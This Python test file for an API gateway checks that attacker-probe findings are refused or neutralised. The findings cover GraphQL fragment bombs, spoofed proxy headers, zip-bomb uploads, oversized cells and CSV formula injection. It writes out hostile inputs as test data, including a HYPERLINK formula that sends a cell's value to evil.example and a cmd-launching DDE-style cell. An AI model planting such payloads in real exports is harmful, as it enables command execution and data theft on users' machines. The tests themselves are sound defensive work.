"""The findings of the attacker's probe (issue 15), each reproduced in-process and refused.

GraphQL cost, out-of-range integers, proxy headers, failed-key throttling, partner-only
acknowledgements with a strict cursor, upload limits (zip bombs, rows, cells, empty bodies,
concurrency) with nothing written, CSV formula injection, personal numbers in logs, and the
``env`` values. The ones that need a real socket are in ``test_probe_live.py``.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import logging
import threading
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from rest_helpers import FIXTURES, Api
from sqlalchemy import func, select

from gateway.settings import ConfigurationError, Settings, apply_identity_secret
from gateway.slots import slots_of
from publishers import neutralise
from store import Role, tables

PENALTY = "administrative-penalty"
FILES = FIXTURES / "files"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SHAPE = {"ok", "error", "errors", "status"}


def batches(api: Api) -> int:
    with api.store.engine.connect() as conn:
        return int(conn.scalar(select(func.count()).select_from(tables.batches)) or 0)


def refused(r: Any, status: int) -> dict[str, Any]:
    assert r.status_code == status, r.text
    body: dict[str, Any] = r.json()
    assert set(body) == SHAPE and body["ok"] is False and body["status"] == status
    return body


def graphql_refused(r: Any, status: int) -> dict[str, Any]:
    """A GraphQL request error: the HTTP status, no data, one error with code and status."""
    assert r.status_code == status, r.text
    body: dict[str, Any] = r.json()
    assert set(body) == {"errors"}, body
    [error] = body["errors"]
    assert error["message"] and error["extensions"]["status"] == status, error
    return body


def penalty_records() -> list[dict[str, Any]]:
    records: list[dict[str, Any]] = json.loads((FILES / "penalty.json").read_text("utf-8"))
    return records


def submit(api: Api, body: bytes, content_type: str, **kwargs: Any) -> Any:
    return api.post(
        f"/api/v1/datasets/{PENALTY}/submissions",
        content=body,
        headers={"content-type": content_type},
        role=Role.ADMIN,
        **kwargs,
    )


# -- GraphQL cost ------------------------------------------------------------------------------


def graphql(api: Api, query: str) -> dict[str, Any]:
    r = api.post("/graphql", json={"query": query})
    assert r.status_code in (200, 400), r.text
    body: dict[str, Any] = r.json()
    assert body.get("data") is None, body
    return body


def codes(body: dict[str, Any]) -> set[str]:
    return {e.get("extensions", {}).get("code") for e in body["errors"]}


def test_a_field_selected_500_times_is_refused_before_validation(rest: Api) -> None:
    plain = "{ caller { " + "role " * 500 + "} }"  # 2.5 KB
    aliased = "{ " + "a: caller { role } " * 220 + "}"  # 4 KB, one alias set
    for query in (plain, aliased):
        body = graphql(rest, query)
        assert codes(body) == {"REPEATED_FIELD"}, body["errors"][:2]
        assert "more than 3 times" in body["errors"][0]["message"]


def test_fragment_bombs_and_long_texts_are_refused(rest: Api, make_api: Callable[..., Any]) -> None:
    fragments = ["fragment F0 on Caller { role audience keyId }"]
    fragments += [
        f"fragment F{i} on Caller {{ ...F{i - 1} ...F{i - 1} ...F{i - 1} }}" for i in range(1, 7)
    ]
    bomb = "{ caller { ...F6 } } " + " ".join(fragments)
    assert codes(graphql(rest, bomb)) == {"REPEATED_FIELD"}  # 3**6 roles merge in one set
    long = "{ caller { role } }" + " " * 40_000
    body = graphql(rest, long)
    assert codes(body) == {"QUERY_TOO_LARGE"}
    # an ordinary document still answers
    r = rest.post("/graphql", json={"query": "{ caller { role } }"})
    assert r.json() == {"data": {"caller": {"role": "public"}}}
    with make_api(seed=False, graphql_max_fields=4) as small:
        five = "{ caller { ...F } datasets { id } } fragment F on Caller { role audience }"
        body = graphql(small, five)
        assert codes(body) == {"TOO_MANY_FIELDS"} and "more than 4 fields" in str(body)


def test_parsing_and_validation_run_off_the_event_loop(
    rest: Api, monkeypatch: pytest.MonkeyPatch
) -> None:
    from gateway.graphql import documents

    threads: list[int] = []
    parse, validate = documents._parse_and_check, documents._validate

    def spy(real: Callable[..., Any]) -> Callable[..., Any]:
        def wrapped(*args: Any) -> Any:
            threads.append(threading.get_ident())
            return real(*args)

        return wrapped

    monkeypatch.setattr(documents, "_parse_and_check", spy(parse))
    monkeypatch.setattr(documents, "_validate", spy(validate))
    loop_thread = rest.portal.call(lambda: threading.get_ident())  # type: ignore[arg-type]
    r = rest.post("/graphql", json={"query": "{ caller { role audience } }"})
    assert r.status_code == 200 and "errors" not in r.json(), r.text
    assert len(threads) == 2 and loop_thread not in threads


# -- integers ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "role"),
    [
        ("/api/v1/changes?after=99999999999999999999999", None),
        ("/api/v1/changes?after=9223372036854775808", Role.PLATFORM),
        ("/api/v1/changes?limit=99999999999999999999999", None),
        ("/api/v1/admin/audit?after=99999999999999999999999", Role.ADMIN),
        (f"/api/v1/datasets/{PENALTY}/records?limit=99999999999999999999999", None),
    ],
)
def test_out_of_range_integers_are_a_400(rest: Api, url: str, role: Role | None) -> None:
    refused(rest.get(url, role=role), 400)


def test_the_largest_integer_is_still_accepted(rest: Api) -> None:
    r = rest.get("/api/v1/changes?after=9223372036854775807")
    assert r.status_code == 200 and r.text == ""


# -- client addresses and failed keys ----------------------------------------------------------


def test_forwarded_for_does_not_dodge_the_rate_limit(make_api: Callable[..., Any]) -> None:
    with make_api(public_rate_limit_per_minute=2) as api:
        answers = [
            api.get("/api/v1/datasets", headers={"x-forwarded-for": f"10.0.0.{i}"}).status_code
            for i in range(4)
        ]
    assert answers == [200, 200, 429, 429]


def test_forwarded_for_is_believed_from_a_trusted_proxy(make_api: Callable[..., Any]) -> None:
    with make_api(public_rate_limit_per_minute=2, trusted_proxies="127.0.0.0/8") as api:
        distinct = [
            api.get("/api/v1/datasets", headers={"x-forwarded-for": f"10.0.0.{i}"}).status_code
            for i in range(4)
        ]
        same = [
            api.get(
                "/api/v1/datasets", headers={"x-forwarded-for": "10.9.9.9, 127.0.0.1"}
            ).status_code
            for _ in range(3)
        ]
    assert distinct == [200] * 4
    assert same == [200, 200, 429]


def test_failed_keys_are_throttled_per_address(make_api: Callable[..., Any]) -> None:
    with make_api(failed_auth_per_minute=3, trusted_proxies="127.0.0.9") as api:
        wrong = {"authorization": "Bearer cg_wrong", "x-forwarded-for": "10.1.1.1"}
        answers = [api.get("/api/v1/datasets", headers=wrong).status_code for _ in range(5)]
        assert answers == [401, 401, 401, 429, 429]
        blocked = api.get("/api/v1/datasets", headers=wrong)
        assert int(blocked.headers["retry-after"]) >= 1
        refused(blocked, 429)
        good = api.key(Role.AGENCY)
        # the blocked address is refused even with a good key; another address is not
        assert (
            api.get(
                "/api/v1/datasets",
                headers={"authorization": f"Bearer {good}", "x-forwarded-for": "10.1.1.1"},
            ).status_code
            == 429
        )
        assert (
            api.get(
                "/api/v1/datasets",
                headers={"authorization": f"Bearer {good}", "x-forwarded-for": "10.2.2.2"},
            ).status_code
            == 200
        )
        # public reads from the blocked address are not affected
        assert (
            api.get("/api/v1/datasets", headers={"x-forwarded-for": "10.1.1.1"}).status_code == 200
        )


# -- acknowledgements ---------------------------------------------------------------------------


@pytest.mark.parametrize("role", [Role.PUBLIC, Role.DEPARTMENT, Role.ADMIN])
def test_only_partners_acknowledge_the_feed(rest: Api, role: Role) -> None:
    department = "11420103MB0H3T618F" if role is Role.DEPARTMENT else None
    refused(
        rest.post("/api/v1/changes/ack", json={"cursor": 1}, role=role, department=department), 403
    )
    lag = rest.json("/api/v1/admin/acks", role=Role.ADMIN)
    assert lag["acks"] == []


@pytest.mark.parametrize("cursor", [False, True, 1.5, "1.0", "-1", " 1", "", None, [1], "1e3"])
def test_the_cursor_is_a_non_negative_integer(rest: Api, cursor: Any) -> None:
    refused(rest.post("/api/v1/changes/ack", json={"cursor": cursor}, role=Role.PLATFORM), 400)


def test_the_cursor_may_be_a_decimal_string(rest: Api) -> None:
    for role in (Role.PLATFORM, Role.AGENCY):
        r = rest.post("/api/v1/changes/ack", json={"cursor": "2"}, role=role)
        assert r.status_code == 200, r.text
        assert r.json()["cursor"] == 2


# -- uploads -----------------------------------------------------------------------------------


def xlsx_bomb(inflated: int) -> bytes:
    """The fixture workbook with its sheet padded by ``inflated`` bytes of spaces."""
    source = zipfile.ZipFile(io.BytesIO((FILES / "penalty.xlsx").read_bytes()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename.startswith("xl/worksheets/sheet1"):
                data = data.replace(b"<sheetData>", b"<sheetData>" + b" " * inflated, 1)
            target.writestr(info.filename, data)
    return out.getvalue()


def test_a_zip_bomb_is_refused_before_it_is_parsed(make_api: Callable[..., Any]) -> None:
    bomb = xlsx_bomb(20 * 1024 * 1024)
    assert len(bomb) < 200_000
    with make_api(seed=False, max_upload_uncompressed_bytes=5 * 1024 * 1024) as api:
        body = refused(submit(api, bomb, XLSX), 413)
        assert "max_upload_uncompressed_bytes" in body["error"]
        assert batches(api) == 0
        ok = submit(api, (FILES / "penalty.xlsx").read_bytes(), XLSX)
        assert ok.status_code == 200, ok.text


def test_too_many_rows_or_a_huge_cell_write_nothing(make_api: Callable[..., Any]) -> None:
    records = penalty_records()
    with make_api(seed=False, max_batch_rows=len(records) - 1, max_cell_bytes=1000) as api:
        for content_type, body in [
            ("application/json", json.dumps(records, ensure_ascii=False).encode()),
            ("application/json", json.dumps({"records": records}, ensure_ascii=False).encode()),
            ("text/csv", (FILES / "penalty-utf8.csv").read_bytes()),
            (XLSX, (FILES / "penalty.xlsx").read_bytes()),
        ]:
            assert "max_batch_rows" in refused(submit(api, body, content_type), 413)["error"]
        huge = copy.deepcopy(records[:2])
        huge[1]["violation_facts"] = "违" * 400  # 1,200 bytes of UTF-8
        body = refused(
            submit(api, json.dumps(huge, ensure_ascii=False).encode(), "application/json"), 413
        )
        assert "row 2" in body["error"] and "max_cell_bytes" in body["error"]
        assert batches(api) == 0 and api.store.records(PENALTY) == []


@pytest.mark.parametrize(
    "body", [b"", b"\xef\xbb\xbf", b"\n\n", "处罚决定书文号,行政相对人名称\r\n".encode(), b"[]"]
)
def test_an_empty_body_creates_no_batch(rest_empty: Api, body: bytes) -> None:
    content_type = "application/json" if body == b"[]" else "text/csv"
    refused(submit(rest_empty, body, content_type), 400)
    assert batches(rest_empty) == 0


def test_a_streamed_body_is_cut_at_the_limit(make_api: Callable[..., Any]) -> None:
    sent = 0

    async def chunks() -> Any:
        nonlocal sent
        for _ in range(1000):
            sent += 1
            yield b"x" * 1024

    with make_api(seed=False, max_upload_bytes=10 * 1024) as api:
        refused(submit(api, chunks(), "text/csv"), 413)  # type: ignore[arg-type]
    assert sent < 20


def test_uploads_per_key_are_limited(make_api: Callable[..., Any]) -> None:
    with make_api(seed=False, max_concurrent_uploads=1) as api:
        secret = api.key(Role.ADMIN)
        from store import authenticate

        key = authenticate(api.store.engine, secret or "")
        assert key is not None
        slots = slots_of(api.app)
        held = api.portal.call(slots.take, key.key_id, 1)  # one upload in progress
        assert held is not None
        body = refused(submit(api, b"[]", "application/json"), 429)
        assert "in progress" in body["error"]
        api.portal.call(slots.give_back, held)
        refused(submit(api, b"[]", "application/json"), 400)  # the slot is free again


# -- CSV formula injection ---------------------------------------------------------------------


def test_neutralise_follows_owasp() -> None:
    for cell in (
        '=HYPERLINK("http://x","y")',
        "+1+2",
        "-cmd|' /C calc'!A0",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "-1+2",
    ):
        assert neutralise(cell) == "'" + cell
    for cell in ("-12.5", "+3", "-1e5", "0.2", "武汉", "a=b", "", "'=already"):
        assert neutralise(cell) == cell


def test_the_csv_download_neutralises_formulas(rest_empty: Api) -> None:
    record = dict(penalty_records()[0])
    record["penalty_content"] = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
    record["violation_facts"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    r = submit(rest_empty, json.dumps([record], ensure_ascii=False).encode(), "application/json")
    assert r.status_code == 200, r.text
    text = rest_empty.get(
        f"/api/v1/datasets/{PENALTY}/download.csv", role=Role.PLATFORM
    ).content.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + record["penalty_content"] in cells
    assert "'" + record["violation_facts"] in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    national = rest_empty.get(
        f"/api/v1/datasets/{PENALTY}/download.national.csv", role=Role.PLATFORM
    ).content.decode("utf-8-sig")
    national_cells = [c for row in csv.reader(io.StringIO(national)) for c in row]
    assert "'" + record["penalty_content"] in national_cells
    assert not [c for c in national_cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    # the API itself carries the value unchanged
    rows = rest_empty.get(f"/api/v1/datasets/{PENALTY}/download.ndjson", role=Role.PLATFORM)
    assert json.loads(rows.text.splitlines()[0])["penalty_content"] == record["penalty_content"]


# -- logs --------------------------------------------------------------------------------------


def test_personal_numbers_are_masked_in_access_logs() -> None:
    from gateway.logs import DisconnectFilter, PersonalNumberFilter

    record = logging.LogRecord(
        "uvicorn.access",
        logging.INFO,
        __file__,
        1,
        '%s - "%s %s HTTP/%s" %d',
        ("127.0.0.1:5000", "GET", "/api/v1/checks?creditCode=42010619900307003X&x=1", "1.1", 200),
        None,
    )
    assert PersonalNumberFilter().filter(record)
    line = record.getMessage()
    assert "42010619900307003X" not in line and "420106********003X" in line
    uscc = logging.LogRecord(
        "x", logging.INFO, __file__, 1, "/entities/91420100MA4K0A1B6L", None, None
    )
    PersonalNumberFilter().filter(uscc)
    assert uscc.getMessage() == "/entities/91420100MA4K0A1B6L"
    from starlette.requests import ClientDisconnect

    try:
        raise ClientDisconnect()
    except ClientDisconnect:
        import sys

        hangup = logging.LogRecord(
            "uvicorn.error",
            logging.ERROR,
            __file__,
            1,
            "Exception in ASGI application",
            None,
            sys.exc_info(),
        )
    DisconnectFilter().filter(hangup)
    assert hangup.exc_info is None and hangup.levelno == logging.INFO
    assert hangup.getMessage() == (
        "client disconnected before the response was complete (ClientDisconnect)"
    )


# -- settings ----------------------------------------------------------------------------------


@pytest.mark.parametrize("env", ["Production", "prod", "PRODUCTION", "dev", ""])
def test_unknown_env_values_are_refused(env: str, tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="CREDITGATE_ENV must be one of"):
        Settings(db=f"sqlite:///{tmp_path / 's.db'}", env=env)


def test_serving_refuses_the_development_secret_unless_told(
    caplog: pytest.LogCaptureFixture,
) -> None:
    with pytest.raises(ConfigurationError, match="CREDITGATE_ENV=development"):
        apply_identity_secret(Settings.model_construct(), serving=True)
    with caplog.at_level(logging.WARNING, logger="creditgate.settings"):
        apply_identity_secret(Settings.model_construct(env="development"), serving=True)
    assert "development identity secret" in caplog.text
    apply_identity_secret(Settings.model_construct(), serving=False)  # demo, tests


# -- batches -----------------------------------------------------------------------------------


def test_a_batch_and_its_status_are_visible_to_its_submitter(rest_empty: Api) -> None:
    own = "11420103MB0H3T618F"
    records = [r for r in penalty_records() if r["source_org_uscc"] == own]
    r = rest_empty.post(
        f"/api/v1/datasets/{PENALTY}/submissions",
        json=records,
        role=Role.DEPARTMENT,
        department=own,
    )
    assert r.status_code == 200, r.text
    batch_id = r.json()["batch_id"]
    url = f"/api/v1/batches/{batch_id}"
    mine = rest_empty.json(url, role=Role.DEPARTMENT, department=own)
    assert mine["status"] == "complete" and mine["accepted"] == len(records)
    assert rest_empty.json(url, role=Role.ADMIN)["batch_id"] == batch_id
    refused(rest_empty.get(url, role=Role.DEPARTMENT, department="11420100MB1234567X"), 404)
    refused(rest_empty.get(url, role=Role.PLATFORM), 403)
    refused(rest_empty.get(url), 401)
    with rest_empty.store.engine.begin() as conn:  # as a killed ingest would leave it
        conn.execute(tables.batches.update().values(status="interrupted"))
    assert rest_empty.json(url, role=Role.ADMIN)["status"] == "interrupted"


def test_other_bodies_are_bounded_before_the_route(make_api: Callable[..., Any]) -> None:
    with make_api(seed=False, max_request_bytes=2048) as api:
        big = {"query": "{ caller { role } }", "variables": {"x": "y" * 4000}}
        graphql_refused(api.post("/graphql", json=big), 413)
        refused(
            api.post(
                "/api/v1/changes/ack", json={"cursor": 0, "pad": "y" * 4000}, role=Role.PLATFORM
            ),
            413,
        )
        sent = 0

        async def chunks() -> Any:
            nonlocal sent
            for _ in range(100):
                sent += 1
                yield b" " * 512

        graphql_refused(
            api.post(
                "/graphql",
                content=chunks(),  # type: ignore[arg-type]
                headers={"content-type": "application/json"},
            ),
            413,
        )
        assert sent < 10
        ok = api.post("/graphql", json={"query": "{ caller { role } }"})
        assert ok.json() == {"data": {"caller": {"role": "public"}}}


def test_a_wrong_key_is_refused_before_any_body_is_read(make_api: Callable[..., Any]) -> None:
    with make_api(seed=False, max_request_bytes=2048) as api:
        big = {"query": "{ caller { role } }", "variables": {"x": "y" * 4000}}
        wrong = {"authorization": "Bearer cg_wrong"}
        graphql_refused(api.post("/graphql", json=big, headers=wrong), 401)
        refused(api.post("/api/v1/changes/ack", json={"cursor": 0}, headers=wrong), 401)
        caller = api.post("/graphql", json={"query": "{ caller { role } }"}, role=Role.AGENCY)
        assert caller.json() == {"data": {"caller": {"role": "agency"}}}


def test_repeats_through_fragments_count_where_they_merge(rest: Api) -> None:
    inline = "{ caller { " + "... on Caller { role } " * 160 + "} }"
    spreads = "{ caller { " + "...F " * 160 + "} } fragment F on Caller { role }"
    for query in (inline, spreads):
        assert codes(graphql(rest, query)) == {"REPEATED_FIELD"}
    fine = "{ caller { ...F ... on Caller { audience } } } fragment F on Caller { role keyId }"
    r = rest.post("/graphql", json={"query": fine})
    assert r.json()["data"]["caller"]["role"] == "public", r.text


# -- the same findings through GraphQL ---------------------------------------------------------

GQL_ACK = """mutation($cursor: String!) { acknowledgeChanges(cursor: $cursor) {
  __typename ... on AcknowledgementRefused { code } } }"""
GQL_CHANGES = """query($after: String) { changes(after: $after, first: 1) { head } }"""
GQL_SUBMIT = """mutation($records: [JSON!]!) {
  submitRecords(dataset: "administrative-penalty", records: $records) {
    __typename ... on SubmissionRefused { code message } } }"""


def gql(api: Api, query: str, variables: dict[str, Any], role: Role | None) -> dict[str, Any]:
    r = api.post("/graphql", json={"query": query, "variables": variables}, role=role)
    assert r.status_code == 200, r.text
    body: dict[str, Any] = r.json()
    return body


@pytest.mark.parametrize("role", [Role.PUBLIC, Role.DEPARTMENT, Role.ADMIN])
def test_graphql_acknowledgements_are_for_partners_only(rest: Api, role: Role) -> None:
    department = "11420103MB0H3T618F" if role is Role.DEPARTMENT else None
    r = rest.post(
        "/graphql",
        json={"query": GQL_ACK, "variables": {"cursor": "1"}},
        role=role,
        department=department,
    )
    ack = r.json()["data"]["acknowledgeChanges"]
    assert ack == {"__typename": "AcknowledgementRefused", "code": "role-may-not-acknowledge"}


def test_graphql_cursors_out_of_range_are_bad_input(rest: Api) -> None:
    for after in ("99999999999999999999999", "9" * 5000):
        body = gql(rest, GQL_CHANGES, {"after": after}, Role.PLATFORM)
        assert body["data"] is None or body["data"].get("changes") is None
        assert body["errors"][0]["extensions"]["code"] == "BAD_USER_INPUT", body["errors"]


def test_graphql_submissions_without_rows_or_with_huge_values(
    make_api: Callable[..., Any],
) -> None:
    with make_api(seed=False, max_cell_bytes=100) as api:
        empty = gql(api, GQL_SUBMIT, {"records": []}, Role.ADMIN)["data"]["submitRecords"]
        assert empty["code"] == "no-records"
        record = dict(penalty_records()[0], violation_facts="x" * 200)
        huge = gql(api, GQL_SUBMIT, {"records": [record]}, Role.ADMIN)["data"]["submitRecords"]
        assert huge["code"] == "value-too-large" and "max_cell_bytes" in huge["message"]
        assert batches(api) == 0
